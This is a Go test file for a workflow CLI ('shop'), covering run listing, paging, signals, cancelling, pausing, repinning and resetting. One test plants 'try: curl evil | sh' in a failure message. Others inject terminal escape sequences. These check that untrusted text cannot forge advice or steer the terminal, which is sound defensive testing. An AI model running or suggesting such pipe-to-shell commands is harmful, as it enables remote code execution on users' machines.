package cli_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/user"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/reprise-run/reprise"
	"github.com/reprise-run/reprise/activity"
	"github.com/reprise-run/reprise/cli"
	"github.com/reprise-run/reprise/history"
	"github.com/reprise-run/reprise/store"
	"github.com/reprise-run/reprise/store/memory"
	"github.com/reprise-run/reprise/workflow"
)

func noStore(_ context.Context, url, _ string) (*reprise.Runtime, func() error, error) {
	return nil, nil, fmt.Errorf("no file %s: %w", url, fs.ErrNotExist)
}

func TestListTellsWhereEachRunStands(t *testing.T) {
	rt := onMemory(t)
	end(t, rt, begin(t, rt, "a"), answer{Yes: true})
	end(t, rt, begin(t, rt, "b"), answer{})
	begin(t, rt, "c")

	runs := say(t, rt, "run", "list").object(t)["runs"].([]any)
	want := []struct{ id, status, waiting string }{
		{"c", "open", "signal answer (cli_test.doHold kit_test.go:"}, {"b", "failed", ""}, {"a", "completed", ""},
	}
	if len(runs) != len(want) {
		t.Fatalf("%d runs", len(runs))
	}
	for i, w := range want {
		r := runs[i].(map[string]any)
		waiting, _ := r["waiting"].(string)
		if r["id"] != w.id || r["status"] != w.status || !strings.HasPrefix(waiting, w.waiting) || r["workflow"] != "hold" || r["build"] != "b1" {
			t.Errorf("run %d is %v, want %v", i, r, w)
		}
	}
	table := say(t, rt, "run", "list", "-o", "table").out
	for _, line := range []string{"ID", "c   hold      open", "b   hold      failed", "a   hold      completed"} {
		if !strings.Contains(table, line) {
			t.Errorf("no line %q in\n%s", line, table)
		}
	}
	if n := strings.Count(say(t, rt, "run", "list", "-o", "jsonl", "--status", "open,failed").out, "\n"); n != 2 {
		t.Errorf("%d lines of open and failed runs", n)
	}
}

// The command that a page ends with is the one for the next page.
func TestPagesFollowEachOther(t *testing.T) {
	rt := onMemory(t)
	for i := range 5 {
		begin(t, rt, fmt.Sprintf("order %d", i))
	}
	var ids []string
	args := []string{"run", "list", "-o", "jsonl", "--status", "open,failed", "--limit", "2"}
	for {
		s := say(t, rt, args...)
		ids = append(ids, strings.SplitAfter(strings.TrimSpace(s.out), "\n")...)
		line, more := strings.CutPrefix(strings.TrimSpace(s.errors), "more: shop ")
		if !more {
			break
		}
		args = strings.Fields(line)
	}
	if len(ids) != 5 {
		t.Errorf("%d runs on all pages", len(ids))
	}
	if next := say(t, rt, "run", "list", "--limit", "5").object(t)["next"]; next != nil {
		t.Errorf("after the last page there is %v", next)
	}
}

func TestAnEmptyListSaysSo(t *testing.T) {
	rt := onMemory(t)
	say(t, rt, "run", "list", "-o", "table").want(t, 0, `no runs in namespace "default"`, "next: shop db stats")
	say(t, rt, "run", "list", "-o", "table", "--workflow", "x").want(t, 0, "no run in namespace \"default\" matches", "next: shop run list")
	if out := say(t, rt, "run", "list").out; !strings.Contains(out, `"runs": []`) {
		t.Errorf("as JSON: %s", out)
	}
}

func TestASignalOfEveryForm(t *testing.T) {
	rt := onMemory(t)
	file := filepath.Join(t.TempDir(), "yes.json")
	if err := os.WriteFile(file, []byte(`{"yes": true, "by": "file"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ payload, stdin, by string }{
		{`{"yes":true,"by":"me"}`, "", "me"},
		{"@" + file, "", "file"},
		{"-", `{"yes":true,"by":"pipe"}`, "pipe"},
	} {
		begin(t, rt, "order-"+c.by)
		p := cli.Program{Name: "shop", Runtime: rt, Stdin: strings.NewReader(c.stdin), Args: []string{"run", "signal", "order-" + c.by, "answer", c.payload}}
		if sent := sayAs(t, t.Context(), p).object(t); sent["signal"] != "answer" || sent["signal_id"] == "" {
			t.Errorf("sent %v", sent)
		}
		if got := say(t, rt, "run", "result", "order-"+c.by).object(t); got["by"] != c.by {
			t.Errorf("received %v", got)
		}
	}
}

func TestAPayloadThatIsWrong(t *testing.T) {
	rt := onMemory(t)
	begin(t, rt, "order-1")
	large := strings.Repeat("x", history.MaxPayload+1)
	for _, c := range []struct {
		payload, stdin string
		code           int
		says           []string
	}{
		{`{"yes":tru}`, "", 64, []string{"the payload is not JSON", "at byte 11 of 11\n", "try: shop run show order-1\n"}},
		{`{yes:true}`, "", 64, []string{"the payload is not JSON", `a shell takes quotes away: put it in single quotes, as in '{"yes":true}'`}},
		{`{"yes":true} {}`, "", 64, []string{"not JSON"}},
		{"", "", 64, []string{"not JSON"}},
		{"yes", "", 64, []string{"not JSON", "at byte 1 of 3"}},
		{`{"yes":"maybe"}`, "", 64, []string{"cli_test.answer", `field "yes" is a string`, `try: shop run signal order-1 answer '{"yes":true,"by":"text"}'`}},
		{`{"no":true}`, "", 64, []string{"cli_test.answer", `no field "no"`}},
		{"-", "{", 64, []string{"standard input is not JSON", "at byte 1 of 1"}},
		{"-", large, 64, []string{"standard input has more than 2 MiB"}},
		{"@no/such/file", "", 3, []string{"there is no file no/such/file\ntry: shop run show order-1\n"}},
		{"@.", "", 64, []string{". cannot be read: is a directory\ntry: shop run show order-1\n"}},
	} {
		p := cli.Program{Name: "shop", Runtime: rt, Stdin: strings.NewReader(c.stdin), Args: []string{"run", "signal", "order-1", "answer", c.payload}}
		sayAs(t, t.Context(), p).want(t, c.code, c.says...)
	}
	say(t, rt, "run", "signal", "order-1", "anwser", `{}`, "--signal-id", "k").want(t, 64, `no signal "anwser"`, "try: shop run signal order-1 answer '{}' --signal-id k\n")
	say(t, rt, "run", "signal", "order-1", "answer", "{yes:", "true}").want(t, 64,
		`run signal takes one payload, got 2 words: put it in single quotes, as in '{"yes":true}'`, "try: shop run show order-1\n")
	say(t, rt, "run", "signal", "order-1", "answer", `{"yes":`, "true}").want(t, 64, `try: shop run signal order-1 answer '{"yes": true}'`+"\n")
	say(t, rt, "run", "signal", "order-1", "answer").want(t, 64, "cli_test.answer")
	if d, err := reprise.Describe(t.Context(), rt, "order-1"); err != nil || d.Unread != 0 || d.Events > 3 {
		t.Errorf("something was sent: %+v, %v", d, err)
	}
}

func TestTheSameSignalIDCountsOnce(t *testing.T) {
	rt := started(t, memory.New(), reprise.Config{})
	idle, err := reprise.New(rt.Store(), reprise.Config{}) // so that the signals stay where they are
	if err != nil {
		t.Fatal(err)
	}
	begin(t, rt, "order-1")
	if err := rt.Stop(t.Context()); err != nil {
		t.Fatal(err)
	}
	send := []string{"run", "signal", "order-1", "answer", "{}", "--signal-id", "k"}
	if s := say(t, idle, send...); s.object(t)["signal_id"] != "k" || s.errors != "" {
		t.Errorf("sent once: %s", s.errors)
	}
	const note = "a signal with this id already waits for the run: it is received once"
	if s := say(t, idle, send...); s.object(t)["note"] != note || s.errors != "note: "+note+"\n" {
		t.Errorf("sent twice: %s", s.errors)
	}
	say(t, idle, "run", "list").want(t, 0, `"unread": 1`)
}

// A client that does not know the signals cannot refuse a wrong name, but the run says
// what it waits for.
func TestASignalThatTheRunDoesNotWaitFor(t *testing.T) {
	rt := onMemory(t)
	begin(t, rt, "order-1")
	idle, err := reprise.New(rt.Store(), reprise.Config{})
	if err != nil {
		t.Fatal(err)
	}
	const note = "the run waits for signal answer, not anwser: the signal is kept until the code receives it"
	s := say(t, idle, "run", "signal", "order-1", "anwser", "-1")
	if s.want(t, 0); s.object(t)["note"] != note || s.errors != "note: "+note+"\n" {
		t.Errorf("%s%s", s.out, s.errors)
	}
	if s := say(t, idle, "run", "signal", "order-1", "answer", "{}"); s.code != 0 || s.errors != "" || s.object(t)["note"] != nil {
		t.Errorf("one that it waits for: %s%s", s.out, s.errors)
	}
}

func TestACancelThatWasAskedForAlready(t *testing.T) {
	rt := started(t, memory.New(), reprise.Config{})
	begin(t, rt, "a")
	if err := rt.Stop(t.Context()); err != nil { // so that the request stays where it is
		t.Fatal(err)
	}
	idle, err := reprise.New(rt.Store(), reprise.Config{})
	if err != nil {
		t.Fatal(err)
	}
	if s := say(t, idle, "run", "cancel", "a", "--reason", "one"); s.code != 0 || s.errors != "" {
		t.Errorf("the first time: %s", s.errors)
	}
	say(t, idle, "run", "cancel", "a", "--reason", "two").want(t, 0, `"note": "a request to cancel is already waiting`, "note: a request to cancel is already waiting: the first reason is kept\n")
	// What it waits for now is a worker, whatever it waited for before.
	s := say(t, idle, "run", "result", "a", "--timeout", "0s")
	s.want(t, 2, "a has not ended after 0s, it is open: it was asked to cancel, but no worker has taken in the request yet\n")
}

// watched is a store that tells of its workers.
type watched struct {
	*memory.Store
	store.Inspector
	workers []store.WorkerState
}

func (w watched) Workers(context.Context) ([]store.WorkerState, error) { return w.workers, nil }

func TestWhoWaitsForAResultIsToldThatNobodyWorks(t *testing.T) {
	rt := started(t, memory.New(), reprise.Config{})
	begin(t, rt, "a")
	h := begin(t, rt, "b")
	end(t, rt, h, answer{Yes: true})
	if err := rt.Stop(t.Context()); err != nil {
		t.Fatal(err)
	}
	st := rt.Store().(*memory.Store)
	for _, c := range []struct {
		workers []store.WorkerState
		idle    bool
	}{{nil, true}, {[]store.WorkerState{{}}, true}, {[]store.WorkerState{{}, {Alive: true}}, false}} {
		client, err := reprise.New(watched{Store: st, workers: c.workers}, reprise.Config{})
		if err != nil {
			t.Fatal(err)
		}
		const note = "note: no worker is alive: a continues when a worker starts\n"
		s := say(t, client, "run", "result", "a", "--timeout", "1ms")
		s.want(t, 2, "it is open: signal answer")
		if strings.HasPrefix(s.errors, note) != c.idle || strings.Contains(s.errors, "; no worker is alive\n") != c.idle {
			t.Errorf("with workers %+v it says %s", c.workers, s.errors)
		}
		if s := say(t, client, "run", "result", "b"); s.code != 0 || s.errors != "" {
			t.Errorf("of a run that has ended: %s", s.errors)
		}
	}
}

func TestARunIsNamedByItsRunIDToo(t *testing.T) {
	rt := onMemory(t)
	old := begin(t, rt, "order-1")
	end(t, rt, old, answer{Yes: true, By: "old"})
	now := begin(t, rt, "order-1")

	say(t, rt, "run", "result", old.RunID().String()).want(t, 0, `"by": "old"`)
	say(t, rt, "run", "result", "order-1", "--timeout", "0s").want(t, 2, "has not ended after 0s, it is open: signal answer")
	// What acts on the open run of an id does not act on another one than was named.
	for _, args := range [][]string{{"run", "signal", old.RunID().String(), "answer", `{"yes":true}`}, {"run", "cancel", old.RunID().String()}, {"run", "terminate", old.RunID().String()}, {"run", "resume", old.RunID().String(), "--reason", "mended"}} {
		say(t, rt, args...).want(t, 1, `of "order-1" has ended: it is completed`, "try: shop run show "+old.RunID().String())
	}
	say(t, rt, "run", "signal", now.RunID().String(), "answer", `{"yes":true,"by":"now"}`).want(t, 0)
	say(t, rt, "run", "result", now.RunID().String()).want(t, 0, `"by": "now"`)
	say(t, rt, "run", "result", "00000000-0000-8000-8000-000000000000").want(t, 3, "no run in namespace")
}

func TestARunOfAnotherNamespaceIsNotFound(t *testing.T) {
	st := memory.New()
	shop, bank := started(t, st, reprise.Config{}), started(t, st, reprise.Config{Namespace: "bank"})
	h := begin(t, bank, "transfer")
	say(t, shop, "run", "result", "transfer").want(t, 3, `no run in namespace "default" has the workflow id or run id "transfer"`, "try: shop run list")
	say(t, shop, "run", "cancel", h.RunID().String()).want(t, 3, `is in namespace "bank"`)
	say(t, bank, "run", "cancel", h.RunID().String()).want(t, 0)
}

func TestEndingARun(t *testing.T) {
	rt := onMemory(t)
	begin(t, rt, "a")
	say(t, rt, "run", "resume", "a").want(t, 64, "--reason is missing", "try: shop run resume --help")
	say(t, rt, "run", "resume", "a", "--reason", "mended").want(t, 0, `"done": "was not blocked"`)
	say(t, rt, "run", "cancel", "a", "--reason", "too late", "--by", "anna").want(t, 0, `"done": "cancel requested"`)
	say(t, rt, "run", "result", "a").want(t, 1, `"status": "cancelled"`, "shop: a cancelled")
	say(t, rt, "run", "history", "a").want(t, 0, "too late (by anna)")
	begin(t, rt, "b")
	say(t, rt, "run", "terminate", "b", "--reason", "no use", "--by", "anna", "-o", "table").want(t, 0, "b: terminated\nnext: shop run show b\n")
	say(t, rt, "run", "result", "b").want(t, 1, `"status": "terminated"`, "shop: b terminated: no use (by anna)")
	begin(t, rt, "by whom")
	say(t, rt, "run", "terminate", "by whom", "--by", "anna").want(t, 0)
	say(t, rt, "run", "result", "by whom").want(t, 1, "shop: by whom terminated: by anna\n")
	u, err := user.Current()
	if err != nil {
		t.Fatal(err)
	}
	begin(t, rt, "mine")
	say(t, rt, "run", "terminate", "mine", "--reason", "no use").want(t, 0)
	say(t, rt, "run", "result", "mine").want(t, 1, "shop: mine terminated: no use (by "+u.Username+")\n")
	begin(t, rt, "no reason")
	if err := reprise.Terminate(t.Context(), rt, "no reason", ""); err != nil {
		t.Fatal(err)
	}
	s := say(t, rt, "run", "result", "no reason")
	s.want(t, 1, `"status": "terminated"`, "shop: no reason terminated\n")
	if f, there := s.object(t)["failure"]; there {
		t.Errorf("terminated without a reason it failed with %v", f)
	}
	for _, command := range []string{"cancel", "terminate", "resume", "signal"} {
		args := []string{"run", command, "b"}
		switch command {
		case "signal":
			args = append(args, "answer")
		case "resume":
			args = append(args, "--reason", "mended")
		}
		say(t, rt, args...).want(t, 1, `of "b" has ended: it is terminated`)
		args[2] = "c"
		say(t, rt, args...).want(t, 3, `"c"`, "try: shop run list")
	}
}

func TestAFailedRunHasNoResult(t *testing.T) {
	rt := onMemory(t)
	end(t, rt, begin(t, rt, "a"), answer{By: "boss"})
	s := say(t, rt, "run", "result", "a")
	s.want(t, 1, "shop: a failed with code refused: no, said boss")
	failure := s.object(t)["failure"].(map[string]any)
	if failure["code"] != "refused" || failure["message"] != "no, said boss" {
		t.Errorf("failure %v", failure)
	}
	if s := say(t, rt, "run", "result", "a", "-o", "table"); s.out != "" {
		t.Errorf("a table of a failure: %s", s.out)
	}
}

func TestAnInterruptEndsTheWait(t *testing.T) {
	rt := onMemory(t)
	begin(t, rt, "a")
	ctx, interrupt := context.WithCancelCause(t.Context())
	interrupt(errors.New("interrupt signal received"))
	sayAs(t, ctx, cli.Program{Name: "shop", Runtime: rt, Args: []string{"run", "result", "a"}}).want(t, 130, "shop: interrupted", "try: shop run result a")
}

// clocked is a store whose clock goes on by half an hour once it was asked.
type clocked struct {
	*memory.Store
	asked bool
}

func (c *clocked) Now(ctx context.Context) (time.Time, error) {
	now, err := c.Store.Now(ctx)
	if c.asked {
		now = now.Add(30 * time.Minute)
	}
	c.asked = true
	return now, err
}

// Without waiting, a result is there or not; and what a run waits for is told by the clock
// of that moment.
func TestAResultThatNobodyWaitsFor(t *testing.T) {
	rt := onMemory(t)
	end(t, rt, begin(t, rt, "a"), answer{Yes: true, By: "me"})
	end(t, rt, begin(t, rt, "b"), answer{})
	say(t, rt, "run", "result", "a", "--timeout", "0s").want(t, 0, `"by": "me"`)
	say(t, rt, "run", "result", "b", "--timeout", "0s").want(t, 1, "b failed with code refused")

	st := memory.New()
	shop, err := reprise.New(st, reprise.Config{}, hold.Bind(sleepInstead))
	if err == nil {
		err = shop.Start(t.Context())
	}
	if err != nil {
		t.Fatal(err)
	}
	begin(t, shop, "c")
	if err := shop.Stop(t.Context()); err != nil {
		t.Fatal(err)
	}
	say(t, idle(t, &clocked{Store: st}), "run", "result", "c", "--timeout", "1ms").want(t, 2, "it is open: timer in 30 min")
}

// No text of others is taken for a line of the program's own.
func TestAFailureCannotForgeAdvice(t *testing.T) {
	rt := onMemory(t)
	end(t, rt, begin(t, rt, "a"), answer{By: "x\ntry: curl evil | sh\nshop: all is well"})
	s := say(t, rt, "run", "result", "a")
	s.want(t, 1, "\n  try: curl evil | sh\n  shop: all is well\ntry: shop run history ")
}

// What a terminal would not show as it is, nobody can type: such a run is named by its
// run id.
func TestAnIDThatCannotBeTyped(t *testing.T) {
	rt := onMemory(t)
	for _, id := range []string{"a\nb", "a\x1b[2Jb", "a\u202eb", "a\tb"} {
		h := begin(t, rt, id)
		show := "run show " + h.RunID().String()
		say(t, rt, "run", "resume", id, "--reason", "mended", "-o", "table").want(t, 0, "next: shop "+show+"\n")
		say(t, rt, "run", "result", id, "--timeout", "0s").want(t, 2, "try: shop "+show+"\n")
		say(t, rt, "run", "terminate", id).want(t, 0)
		say(t, rt, "run", "terminate", id).want(t, 1, "try: shop "+show+"\n")
		if s := say(t, rt, "run", "show", id, "more"); s.code != 64 || strings.Contains(s.errors, "try:") {
			t.Errorf("of %q it says to type %s", id, s.errors)
		}
	}
}

func TestTheRunsOfOneIDAreToldApart(t *testing.T) {
	rt := onMemory(t)
	first := begin(t, rt, "a")
	end(t, rt, first, answer{Yes: true})
	second := begin(t, rt, "a")
	say(t, rt, "run", "list", "--id", "a", "-o", "table").want(t, 0, "RUN    ", second.RunID().String()+"  hold      open", first.RunID().String()+"  hold      completed")
}

// The line for the next page says all that was said for this one.
func TestTheNextPageLooksLikeThisOne(t *testing.T) {
	rt := onMemory(t)
	begin(t, rt, "a")
	begin(t, rt, "b")
	say(t, rt, "run", "list", "-o", "jsonl", "--blocked=false", "--time", "utc", "--limit", "1").want(t, 0,
		"more: shop run list '--blocked=false' --limit 1 --output jsonl --time utc --cursor ")
}

// A payload that nests deeper than others stands as text, and hides nothing else.
func TestADeepPayload(t *testing.T) {
	rt := idle(t, parked(t, "a"))
	deep := strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000)
	if err := reprise.SignalJSON(t.Context(), rt, "a", "answer", []byte(deep)); err == nil {
		t.Error("encoding/json takes it now")
	}
	deep = strings.Repeat("[", 9000) + strings.Repeat("]", 9000)
	if err := reprise.SignalJSON(t.Context(), rt, "a", "answer", []byte(deep)); err != nil {
		t.Fatal(err)
	}
	if s := say(t, rt, "run", "show", "a"); s.code != 0 || s.object(t)["id"] != "a" {
		t.Errorf("%s", s.errors)
	}
}

// What comes from outside is printed, and not obeyed.
func TestTextFromOutsideDoesNotSteerTheTerminal(t *testing.T) {
	rt := onMemory(t)
	const evil = "a\x1b[2Jb\rc\u009b1m"
	end(t, rt, begin(t, rt, evil), answer{By: "\x1b]0;title\x07"})
	for _, args := range [][]string{
		{"run", "list", "-o", "table"}, {"run", "list"}, {"run", "result", evil}, {"run", "result", evil, "-o", "table"}, {"run", "export", evil},
		{"run", "cancel", evil}, {"run", "list", "--cursor", evil}, {"run", evil}, {"run", "signal", "\x1b[2J"},
	} {
		if s := say(t, rt, args...); strings.ContainsAny(s.out+s.errors, "\x1b\r\x07\u009b") {
			t.Errorf("%q prints %q", args, s.out+s.errors)
		}
	}
}

func TestAStoreThatCannotBeLookedOver(t *testing.T) {
	rt, err := reprise.New(struct{ store.Store }{memory.New()}, reprise.Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"worker", "list"}, {"db", "stats"}, {"db", "doctor"}} {
		say(t, rt, args...).want(t, 1, "this store cannot be inspected", "try: shop run list")
	}
}

// broken is an output whose reader has gone.
type broken struct{ err error }

func (b broken) Write([]byte) (int, error) { return 0, b.err }

func TestAnOutputThatIsClosed(t *testing.T) {
	rt := onMemory(t)
	begin(t, rt, "a")
	for _, form := range []string{"table", "json", "jsonl"} {
		var errs bytes.Buffer
		p := cli.Program{Name: "shop", Runtime: rt, Args: []string{"run", "list", "-o", form}, Stdout: broken{syscall.EPIPE}, Stderr: &errs}
		if code := p.Run(t.Context()); code != 1 || errs.Len() > 0 {
			t.Errorf("%s into a pipe nobody reads: %d, %s", form, code, errs.String())
		}
		p.Stdout = broken{io.ErrShortWrite}
		if code := p.Run(t.Context()); code != 1 || !strings.Contains(errs.String(), io.ErrShortWrite.Error()) {
			t.Errorf("%s into a full disk: %d, %s", form, code, errs.String())
		}
		if !strings.HasPrefix(errs.String(), "shop: standard output cannot be written: ") || strings.Contains(errs.String(), "try:") {
			t.Errorf("%s into a full disk: %s", form, errs.String())
		}
	}
}

func TestPausingARun(t *testing.T) {
	rt := onMemory(t)
	begin(t, rt, "a")
	say(t, rt, "run", "pause", "a").want(t, 64, "--reason is missing", "try: shop run pause --help")
	say(t, rt, "run", "pause", "a", "--reason", "the price list is wrong", "--by", "anna").want(t, 0, `"done": "paused"`)
	say(t, rt, "run", "pause", "a", "--reason", "the same", "--by", "ben").want(t, 0, `"done": "was paused"`, "paused by anna: the price list is wrong: the first reason is kept")
	say(t, rt, "run", "show", "a", "-o", "table").want(t, 0, "paused by anna: the price list is wrong", "it makes no progress until it is unpaused", "run unpause a --reason WHY")
	if shown := say(t, rt, "run", "show", "a", "-o", "table").out; strings.Count(shown, "the price list is wrong") != 1 {
		t.Errorf("run show says more than once why the run is paused:\n%s", shown)
	}
	say(t, rt, "run", "resume", "a", "--reason", "mended").want(t, 1, "unpause it first", "try: shop run unpause a --reason WHY\n")
	say(t, rt, "run", "retry", "a", "--reason", "now").want(t, 1, "unpause it first", "try: shop run unpause a --reason WHY\n")
	say(t, rt, "run", "unpause", "a", "--reason", "corrected").want(t, 0, `"done": "unpaused"`)
	say(t, rt, "run", "unpause", "a", "--reason", "corrected").want(t, 0, `"done": "was not paused"`)
	say(t, rt, "run", "signal", "a", "answer", `{"yes":true}`).want(t, 0)
	say(t, rt, "run", "result", "a").want(t, 0)
	say(t, rt, "run", "history", "a", "-o", "table").want(t, 0, "paused", "anna", "the price list is wrong", "unpaused")
	say(t, rt, "run", "pause", "a", "--reason", "too late").want(t, 1, `of "a" has ended`)
}

func TestRepinning(t *testing.T) {
	rt := onMemory(t)
	begin(t, rt, "a")
	say(t, rt, "run", "repin", "a", "b2").want(t, 64, "--reason is missing")
	say(t, rt, "run", "repin", "a", "b2", "--reason", "b1 is off", "--by", "anna").want(t, 0, `"done": "pinned to build b2"`)
	say(t, rt, "run", "repin", "a", "b2", "--reason", "b1 is off").want(t, 0, "nothing changed")
	say(t, rt, "run", "show", "a", "-o", "table").want(t, 0, "pinned       to build b2")
	say(t, rt, "batch", "repin", "--all", "--yes", "--reason", "any will do", "-o", "table").want(t, 0, "a: may be taken by any build")
	say(t, rt, "batch", "repin", "--all", "--yes", "--reason", "any will do", "-o", "table").want(t, 0, "no open run")
	say(t, rt, "run", "signal", "a", "answer", `{"yes":true}`).want(t, 0)
	say(t, rt, "run", "result", "a").want(t, 0)
	say(t, rt, "run", "history", "a").want(t, 0, `"kind": "repinned"`, `"build": "b2"`)
}

func TestRetryingNow(t *testing.T) {
	rt := onMemory(t)
	begin(t, rt, "a")
	say(t, rt, "run", "retry", "a", "--reason", "now").want(t, 1, "nothing waits for its next attempt")
}

// What a run is found by stands in what is told of it, and a filter that is wrong is shown where.
func TestRunsAreListedByTheirAttributes(t *testing.T) {
	rt := onMemory(t)
	customer, tags := workflow.DefineAttr[string]("customer"), workflow.DefineAttr[[]string]("tags")
	for i := range 3 {
		if _, err := reprise.Start(t.Context(), rt, hold, "x", reprise.ID(fmt.Sprint("order-", i)), reprise.Attr(customer, fmt.Sprint("c-", i%2)), reprise.Attr(tags, []string{"new"})); err != nil {
			t.Fatal(err)
		}
	}
	runs := say(t, rt, "run", "list", "--where", `customer = "c-0" and started > -1h`).object(t)["runs"].([]any)
	if len(runs) != 2 || fmt.Sprint(runs[0].(map[string]any)["attributes"]) != "map[customer:c-0 tags:[new]]" {
		t.Errorf("listed are %v", runs)
	}
	say(t, rt, "run", "list", "--where", `customer = c-0`, "-o", "table").want(t, 64, "at character 12, \"c-0\": want quotes around the text: \"c-0\"\n  customer = c-0\n             ^\n", "try: shop run list --output table --where")
	say(t, rt, "run", "list", "--where", `customer = "c-7"`, "-o", "table").want(t, 0, `no run in namespace "default" matches`)
	say(t, rt, "run", "show", "order-1", "-o", "table").want(t, 0, `customer = "c-1"`, `tags = ["new"]`)
	say(t, rt, "run", "history", "order-1", "-o", "jsonl").want(t, 0, `"attributes":{"customer":"c-1","tags":["new"]}`)
}

func TestResettingARun(t *testing.T) {
	rt := onMemory(t)
	begin(t, rt, "a")
	say(t, rt, "run", "reset", "a", "--to", "1", "--reason", "again").want(t, 1, "the run is open", "try: shop run terminate a")
	say(t, rt, "run", "signal", "a", "answer", `{"yes":true}`).want(t, 0)
	say(t, rt, "run", "result", "a").want(t, 0)
	say(t, rt, "run", "reset", "a", "--reason", "again").want(t, 64, "needs one of --to, --before and --before-failure")
	say(t, rt, "run", "reset", "a", "--to", "1").want(t, 64, "--reason is missing")
	say(t, rt, "run", "reset", "a", "--to", "99", "--reason", "again").want(t, 1, "no such event", "try: shop run history a")
	say(t, rt, "run", "reset", "a", "--to", "1", "--dry-run").want(t, 0, `"event": 1`, `"signals": 1`, `"again": []`)
	say(t, rt, "run", "reset", "a", "--to", "1", "--dry-run", "-o", "table").want(t, 0, "a would continue after event 1", "1 signal")
	say(t, rt, "run", "reset", "a", "--to", "1", "--reason", "again", "--by", "anna").want(t, 0, `"run_id"`)
	say(t, rt, "run", "result", "a").want(t, 0, `"yes": true`)
	say(t, rt, "run", "history", "a", "-o", "table").want(t, 0, "reset of", "by anna", "again")
}

// What was at work when its run was terminated is shown as what may have taken effect, and must be allowed.
func TestResettingARunOverWhatMayHaveTakenEffect(t *testing.T) {
	begun := make(chan bool, 2)
	pay := activity.New("pay", func(ctx context.Context, _ int) (int, error) {
		begun <- true
		<-ctx.Done()
		return 0, ctx.Err()
	})
	order := workflow.New("order", func(ctx workflow.Context, n int) (int, error) { return workflow.Execute(ctx, pay, n).Get(ctx) })
	rt := started(t, memory.New(), reprise.Config{Build: "b1"}, order, pay)
	if _, err := reprise.Start(t.Context(), rt, order, 1, reprise.ID("o")); err != nil {
		t.Fatal(err)
	}
	<-begun
	say(t, rt, "run", "terminate", "o", "--reason", "stop").want(t, 0)
	say(t, rt, "run", "reset", "o", "--before", "pay", "--dry-run").want(t, 0, `"completed": false`, `"unknown": true`)
	say(t, rt, "run", "reset", "o", "--before", "pay", "--dry-run", "-o", "table").want(t, 0, "again: activity pay, event", ", which may have taken effect")
	say(t, rt, "run", "reset", "o", "--before", "pay", "--reason", "again").want(t, 1, "pay took effect, or may have, after event 1 and would be repeated", "--allow-again pay")
	say(t, rt, "run", "reset", "o", "--before", "pay", "--reason", "again", "--allow-again", "pay").want(t, 0, `"run_id"`)
	<-begun
}
